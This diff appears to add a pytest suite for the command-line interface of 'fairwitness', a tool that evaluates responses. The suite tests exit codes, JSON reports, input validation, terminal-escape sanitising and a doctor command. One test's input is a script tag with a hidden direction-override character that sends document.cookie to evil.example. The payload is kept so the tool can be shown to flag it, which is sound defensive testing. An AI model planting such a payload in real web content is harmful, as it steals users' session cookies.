@@ -1,0 +1,144 @@
+"""The command line as a user meets it: reports, exit codes, and clear words for bad input."""
+
+from __future__ import annotations
+
+import json
+import socket
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+CLEAN = "Plants make sugar from water and carbon dioxide, using the energy of light."
+
+
+def run(*arguments: str, stdin: bytes = b"", **environ: str) -> subprocess.CompletedProcess[bytes]:
+    import os
+
+    clean = {
+        name: value for name, value in os.environ.items() if not name.startswith("FAIRWITNESS_")
+    }
+    return subprocess.run(
+        [sys.executable, "-m", "fairwitness", *arguments],
+        input=stdin,
+        capture_output=True,
+        timeout=60,
+        check=False,
+        env={**clean, "NO_COLOR": "1", "COLUMNS": "100", **environ},
+    )
+
+
+def test_pass_is_0_and_json_is_the_assessment() -> None:
+    done = run("evaluate", "--prompt", "How do plants make food?", "--response", CLEAN, "--json")
+    assert done.returncode == 0, done.stderr
+    assessment = json.loads(done.stdout)
+    assert assessment["overallVerdict"] == "pass"
+    assert "evaluationId" not in assessment
+
+
+def test_fail_is_1() -> None:
+    hidden = "Look\u202eat this <script>fetch('https://evil.example/'+document.cookie)</script>"
+    done = run("evaluate", "--prompt", "Hi", "--response", hidden)
+    assert done.returncode == 1, done.stdout
+    assert b"FAIL" in done.stdout
+
+
+def test_report_underlines_and_never_drives_the_terminal() -> None:
+    done = run("evaluate", "--prompt", "Hi", "--response", "plain \x1b[31mred\x1b[0m text")
+    assert b"\x1b[31m" not in done.stdout
+    assert b"\\u{1b}" in done.stdout
+    assert b"evidence underlined" in done.stdout
+
+
+def test_files_and_stdin(tmp_path: Path) -> None:
+    prompt, response = tmp_path / "prompt.txt", tmp_path / "response.txt"
+    prompt.write_text("How do plants make food?")
+    response.write_text(CLEAN)
+    from_files = run(
+        "evaluate", "--prompt-file", str(prompt), "--response-file", str(response), "--json"
+    )
+    from_stdin = run("evaluate", "--prompt-file", str(prompt), "--json", stdin=CLEAN.encode())
+    assert from_files.returncode == from_stdin.returncode == 0
+    assert from_files.stdout == from_stdin.stdout
+
+
+@pytest.mark.parametrize(
+    ("arguments", "stdin", "words"),
+    [
+        (("evaluate", "--response", "x"), b"", "prompt: required"),
+        (("evaluate", "--prompt", "", "--response", "x"), b"", "prompt: must not be empty"),
+        (("evaluate", "--prompt", "x" * 2001, "--response", "x"), b"", "prompt: longer than 2000"),
+        (("evaluate", "--prompt", "x"), b"", "response: must not be empty"),
+        (("evaluate", "--prompt", "x"), b"\xff\xfe", "response: not valid UTF-8 (byte 0)"),
+        (
+            ("evaluate", "--prompt", "x", "--response", "y" * 8001),
+            b"",
+            "response: longer than 8000",
+        ),
+        (("evaluate", "--prompt", "x", "--prompt-file", "y", "--response", "z"), b"", "not both"),
+        (("evaluate", "--prompt-file", "-"), b"x", "only one of prompt and response"),
+        (
+            ("evaluate", "--prompt-file", "/does/not/exist", "--response", "x"),
+            b"",
+            "cannot read /does/not/exist",
+        ),
+        (("evaluate", "--prompt-file", "/", "--response", "x"), b"", "cannot read /"),
+        (("evaluate", "--nonsense"), b"", "--nonsense"),
+        (("nonsense",), b"", "nonsense"),
+        (("serve", "--port", "http"), b"", "port"),
+        (("serve", "--port", "99999"), b"", "FAIRWITNESS_PORT: must be"),
+        (("serve", "--workers", "0"), b"", "FAIRWITNESS_WORKERS: must be"),
+    ],
+)
+def test_bad_input_is_2_with_one_clear_line(
+    arguments: tuple[str, ...], stdin: bytes, words: str
+) -> None:
+    done = run(*arguments, stdin=stdin)
+    assert done.returncode == 2, (done.stdout, done.stderr)
+    assert words in done.stderr.decode()
+    assert b"Traceback" not in done.stderr
+
+
+def test_text_may_begin_with_a_hyphen() -> None:
+    done = run("evaluate", "--prompt", "--what?", "--response", "- one\n- two", "--json")
+    assert done.returncode in {0, 3}, done.stderr
+
+
+def test_bad_settings_are_2_and_named() -> None:
+    for command in ("serve", "doctor"):
+        done = run(command, FAIRWITNESS_QUOTA_PER_HOUR="many")
+        assert done.returncode == 2
+        assert b"FAIRWITNESS_QUOTA_PER_HOUR" in done.stderr
+
+
+def test_taken_port_is_a_clear_error() -> None:
+    with socket.socket() as taken:
+        taken.bind(("127.0.0.1", 0))
+        taken.listen()
+        done = run("serve", "--port", str(taken.getsockname()[1]))
+    assert done.returncode == 1
+    assert b"cannot listen" in done.stderr
+
+
+def test_doctor_is_well_here(tmp_path: Path) -> None:
+    done = run("doctor", FAIRWITNESS_DATA_DIR=str(tmp_path))
+    assert done.returncode == 0, done.stdout
+    assert b"All is well." in done.stdout
+
+
+def test_doctor_says_how_to_mend(tmp_path: Path) -> None:
+    blocker = tmp_path / "file"
+    blocker.write_text("")
+    done = run("doctor", FAIRWITNESS_DATA_DIR=str(blocker / "data"))
+    assert done.returncode == 1
+    assert b"FAIRWITNESS_DATA_DIR" in done.stdout
+
+
+def test_help_and_version() -> None:
+    assert b"serve" in run("--help").stdout
+    assert run("--version").stdout.strip() == b"0.1.0"
+    for command in ("serve", "evaluate", "doctor"):
+        done = run(command, "--help")
+        assert done.returncode == 0
+        assert done.stdout
